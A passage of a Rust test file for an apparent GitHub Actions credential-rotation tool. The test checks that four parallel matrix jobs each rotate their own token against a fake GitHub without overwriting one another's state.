                if k.as_str() == Some("run") {
                    if let Some(s) = v.as_str() {
                        out.push(s.to_string());
                    }
                } else {
                    out.extend(runs(v));
                }
            }
        }
        serde_yaml::Value::Sequence(s) => s.iter().for_each(|v| out.extend(runs(v))),
        _ => {}
    }
    out
}

#[tokio::test(flavor = "multi_thread")]
async fn matrix_jobs_run_side_by_side_without_losing_each_others_writes() {
    let (fake, ws) = world().await;
    let ids = ["alpha", "beta", "gamma", "delta"];
    let mut config = String::from(
        "version: 1\nstate: { store: \"github-branch:rotagate-state\", recipients: [RECIPIENT] }\ncredentials:\n",
    );
    for id in ids {
        let name = id.to_uppercase();
        config.push_str(&format!(
            "  - id: {id}\n    owner: \"@acme/platform\"\n    bootstrap: true\n    key: {{ type: secret, length: 40 }}\n    promote:\n      - github-secret: {{ repo: acme/api, set: {{ {name}_TOKEN: \"{{{{ new.value }}}}\" }} }}\n    gate: none\n"
        ));
    }
    ws.config(&config);
    let plan =
        job(&ws, &fake, "schedule", "refs/heads/main", &json!({}), &["plan", "--matrix"]).await;
    assert_eq!(plan.code, 0, "{}", plan.log);
    let matrix: Value = serde_json::from_str(&plan.outputs["matrix"]).unwrap();
    let listed: Vec<&str> = matrix["include"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["credential"].as_str().unwrap())
        .collect();
    assert_eq!(listed, ids);

    // One job per entry, all at once, as the matrix runs them.
    let schedule = json!({});
    let args: Vec<[&str; 3]> = ids.iter().map(|id| ["run", "--only", id]).collect();
    let jobs = args.iter().map(|a| job(&ws, &fake, "schedule", "refs/heads/main", &schedule, a));
    let done = futures::future::join_all(jobs).await;
    for (id, j) in ids.iter().zip(&done) {
        assert_eq!(j.code, 0, "{id}: {}", j.log);
        assert_eq!(j.outputs["rotated"], *id);
        assert!(fake.secret("acme/api", &format!("{}_TOKEN", id.to_uppercase())).is_some());
    }
    let status = ws.gh(&fake, HOME, &["status", "--json"]).await;
    let rows: Value = serde_json::from_str(&status.stdout).unwrap();
    let with_material = rows.as_array().unwrap().iter().filter(|r| r["kid"].is_string()).count();
    assert_eq!(with_material, ids.len(), "every job's write survived: {}", status.stdout);
}
